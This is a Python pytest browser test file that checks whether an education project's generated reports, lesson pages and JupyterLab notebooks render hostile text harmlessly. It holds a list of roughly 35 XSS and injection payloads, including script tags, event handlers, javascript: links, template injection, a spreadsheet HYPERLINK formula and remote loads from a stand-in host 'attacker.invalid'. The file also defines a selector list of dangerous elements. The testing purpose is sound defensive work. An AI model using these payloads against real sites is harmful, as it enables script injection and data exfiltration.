"""Text that would run in a careless page does nothing in any of ours, and asks nobody for anything."""

import csv
import shutil
from collections.abc import Callable, Iterator
from datetime import date
from itertools import cycle
from pathlib import Path
from typing import Any

import pytest

from classroom_browser import open_notebook, run_all, serve_lab
from made_notebook import fill_report
from made_release import LABELS, SCHOOLS, make_full_release
from wbl.collect.load import load
from wbl.program import Problem, RowCount
from wbl.publish.activity import publish_activity
from wbl.publish.classroom_server import prepare_folder
from wbl.publish.explorer import publish_explorer
from wbl.publish.lessons import publish_paper
from wbl.publish.page import write_page
from wbl.publish.problems_page import write_problems_page
from wbl.publish.shelf_page import write_shelf_page
from wbl.teach.shelf import Shelved

pytestmark = pytest.mark.browser
RAN, FAR = "window.ran=1", "http://attacker.invalid/"
VECTORS = (
    f"<script>{RAN}</script>", f"</script><script>{RAN}</script>", f'<img src=x onerror="{RAN}">',
    f"<svg onload={RAN}>", f'<svg><script href="{FAR}a.js"></script></svg>',
    f"<svg><animate onbegin={RAN} attributeName=x>",
    f"<body onload={RAN}>", f"<details open ontoggle={RAN}>x</details>",
    f"<input autofocus onfocus={RAN}>",
    f'<iframe src="javascript:parent.{RAN}"></iframe>',
    f'<iframe srcdoc="<script>parent.{RAN}</script>"></iframe>',
    f'<a href="javascript:{RAN}">x</a>', f"[x](javascript:{RAN})", f"![x]({FAR}pixel.png)",
    f'<img src="{FAR}pixel.png">',
    f'<link rel=stylesheet href="{FAR}a.css">', f"<style>@import '{FAR}b.css';</style>", f'<base href="{FAR}">',
    f'<meta http-equiv=refresh content="0;url={FAR}">', f'<form action="{FAR}"><button autofocus>x</button></form>',
    f'<object data="{FAR}x"></object>', f'<embed src="{FAR}x">',
    f'<video><source onerror="{RAN}"></video>',
    f'"><img src=x onerror={RAN}>', f"'-{RAN}-'", f"${{{RAN}}}",
    f"{{{{constructor.constructor('{RAN}')()}}}}",
    f"--><script>{RAN}</script>", f"<math><mtext><img src=x onerror={RAN}></mtext></math>",
    f"]]><script>{RAN}</script>",
    f"$\\href{{javascript:{RAN}}}{{x}}$", f"```mermaid\nclick A href \"javascript:{RAN}\"\n```",
    f"\u202e<img src=x onerror={RAN}>",
    f'=HYPERLINK("{FAR}","x")', f"<xss style='background:url({FAR}c.png)'>x</xss>",
)
HARMFUL = ("iframe, object, embed, base, meta[http-equiv=refresh], form[action], a[href^=javascript], img[src^=http], "
           "[onerror]")


def test_there_are_enough_of_them() -> None:
    assert len(set(VECTORS)) >= 25


def assert_calm(opened: Any, *, shown: int) -> None:
    """Nothing ran, nobody was asked, and at least so many of the texts stand on the page as text."""
    page = opened.page
    page.evaluate("document.querySelectorAll('details').forEach(part => { part.open = true; })")
    for _ in range(5):
        page.keyboard.press("Tab")
    page.wait_for_timeout(300)
    assert page.evaluate("window.ran") is None
    assert opened.requests == [], opened.requests
    assert opened.errors == [], opened.errors
    assert page.locator(HARMFUL).count() == 0
    text = page.evaluate("document.documentElement.textContent")
    seen = [vector for vector in VECTORS if "".join(vector.split()) in "".join(text.split())]
    assert len(seen) >= shown, f"{len(seen)} of {len(VECTORS)} are on the page"


def test_the_report(tmp_path: Path, open_page: Callable[..., Any]) -> None:
    vectors = cycle(VECTORS)
    release = make_full_release(
        labels={code: next(vectors) for code in LABELS}, school_names={code: next(vectors) for code in SCHOOLS},
        program_name=VECTORS[0], wages_source=VECTORS[1],
    )
    for table in release.tables.values():
        for column in ("group", "soc_code"):
            named = {"cte_program", "industry", "occupation"} & set(table.frame.get("breakdown", ()))
            if column in table.frame and named:
                table.frame[column] = [next(vectors) if value[:1].isupper() else value for value in table.frame[column]]
    page = write_page(fill_report(release), tmp_path / "r.html", title=VECTORS[2], keep_tags={"public"})
    assert_calm(open_page(page), shown=25)


def test_the_problems_page(tmp_path: Path, open_page: Callable[..., Any]) -> None:
    problems = [Problem(vector, "interviews", place, vector, vector, vector, vector, "held")
                for place, vector in enumerate(VECTORS)]
    page = write_problems_page({"interviews": RowCount(40, 5, 0, 35)}, problems, tmp_path / "p.html", source=VECTORS[0])
    assert_calm(open_page(page), shown=len(VECTORS) - 2)


def test_the_shelf(tmp_path: Path, open_page: Callable[..., Any]) -> None:
    entries = [Shelved(f"R{place}", vector, vector, "school", "en", 9.0, True, 2, 1, None, "in_force")
               for place, vector in enumerate(VECTORS)]
    page = write_shelf_page(entries, date(2026, 3, 2), tmp_path)
    assert_calm(open_page(page), shown=len(VECTORS) - 2)


FREE_TEXT = {"recordings": ("title",), "salaries": ("raw",), "career_steps": ("title",), "opportunities": ("title",),
             "partners": ("organization",), "schools": ("school_name",)}


def fill(path: Path, columns: tuple[str, ...]) -> None:
    """Put such text into columns of a table, wherever something stands."""
    vectors = cycle(VECTORS)
    with path.open(encoding="utf-8-sig", newline="") as file:
        rows = list(csv.DictReader(file))
    for row in rows:
        row.update({column: next(vectors) for column in columns if row[column]})
    with path.open("w", encoding="utf-8", newline="") as file:
        writer = csv.DictWriter(file, list(rows[0]))
        writer.writeheader()
        writer.writerows(rows)


def test_the_explorer(tmp_path: Path, open_page: Callable[..., Any], monkeypatch: pytest.MonkeyPatch) -> None:
    listed = [{"name": vector, "field": "Healthcare", "official": {"year": None, "hour": None}, "declined": 0,
               "answers": [[40_000 + place, 60_000, 0, 0]]} for place, vector in enumerate(VECTORS)]
    monkeypatch.setattr("wbl.publish.explorer.list_answers", lambda salaries: listed)
    opened = open_page(publish_explorer("sample", tmp_path / "e.html", audience="staff"))
    names = opened.page.evaluate("JSON.parse(document.querySelector('[data-figure=explorer]').textContent)"
                                 ".occupations.map(one => one.name)")
    assert names == list(VECTORS)
    assert_calm(opened, shown=0)


@pytest.fixture(scope="module")
def hostile_source(sample: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The sample, with such text wherever somebody may type what they like, the transcript included."""
    source = tmp_path_factory.mktemp("hostile") / "source"
    shutil.copytree(sample, source)
    for name, columns in FREE_TEXT.items():
        fill(source / f"{name}.csv", columns)
    for transcript in (source / "transcripts").glob("*.vtt"):
        vectors = (vector.replace("-->", "") for vector in cycle(VECTORS))
        lines = transcript.read_text(encoding="utf-8").splitlines()
        spoken = [line if not line or "-->" in line or line.startswith(("WEBVTT", "NOTE")) or line.isdecimal()
                  else f"{line} {' '.join(next(vectors).split())}" for line in lines]
        transcript.write_text("\n".join(spoken), encoding="utf-8")
    return source


@pytest.fixture(scope="module")
def documents(hostile_source: Path, tmp_path_factory: pytest.TempPathFactory) -> Iterator[list[Path]]:
    out = tmp_path_factory.mktemp("out")
    page = publish_activity(load(hostile_source), hostile_source, out, recording="R0001")
    yield sorted(page.parent.glob("*.html"))


@pytest.mark.slow
def test_the_activity_and_its_slides(documents: list[Path], open_page: Callable[..., Any]) -> None:
    assert {"teacher-guide", "student-handout", "slides"} <= {path.stem for path in documents}
    for path in documents:
        assert_calm(open_page(path), shown=1)


@pytest.mark.slow
@pytest.mark.parametrize("lesson", [
    "04_who_earns_what", "05_how_did_they_get_there", "06_who_did_we_not_talk_to", "07_my_next_step",
])
def test_the_lessons_on_paper(hostile_source: Path, lesson: str, tmp_path: Path, browser: Any) -> None:
    from conftest import OpenPage

    for path in publish_paper(tmp_path, lesson, source=str(hostile_source)):
        opened = OpenPage(browser.new_context(offline=True).new_page())
        opened.page.on("request", lambda request, seen=opened.requests: request.url.startswith("file:")
                       or seen.append(request.url))
        opened.page.on("pageerror", lambda error, seen=opened.errors: seen.append(str(error)))
        opened.page.goto(path.as_uri(), wait_until="load")
        assert_calm(opened, shown=0)
        opened.page.close()


@pytest.fixture(scope="module")
def classroom(hostile_source: Path, tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[str, str]]:
    """A JupyterLab of the lessons about pay, paths, gaps and next steps over that source."""
    folder = tmp_path_factory.mktemp("classroom") / "lessons"
    for name in ("5", "6", "7"):
        prepare_folder(folder, name, source=str(hostile_source))
    with serve_lab(folder, "4", tmp_path_factory.mktemp("state"), source=str(hostile_source)) as found:
        yield found


@pytest.mark.slow
@pytest.mark.parametrize("lesson", [
    "04_who_earns_what", "05_how_did_they_get_there", "06_who_did_we_not_talk_to", "07_my_next_step",
])
def test_the_lessons_in_jupyterlab(classroom: tuple[str, str], lesson: str, browser: Any) -> None:
    context = browser.new_context(viewport={"width": 1366, "height": 4_000})
    context.set_default_timeout(30_000)
    page, far = context.new_page(), []
    page.on("request", lambda request: request.url.startswith((classroom[0], "data:", "blob:", "ws:"))
            or far.append(request.url))
    open_notebook(page, classroom, f"{lesson}.ipynb")
    run_all(page)
    boxes = page.locator(".jp-OutputArea textarea")
    for place in range(boxes.count()):
        boxes.nth(place).fill(VECTORS[place % len(VECTORS)])
    page.wait_for_timeout(2_500)    # answers are kept and shown again
    assert page.evaluate("window.ran") is None
    assert far == []
    assert page.locator(f".jp-OutputArea :is({HARMFUL})").count() == 0
    context.close()
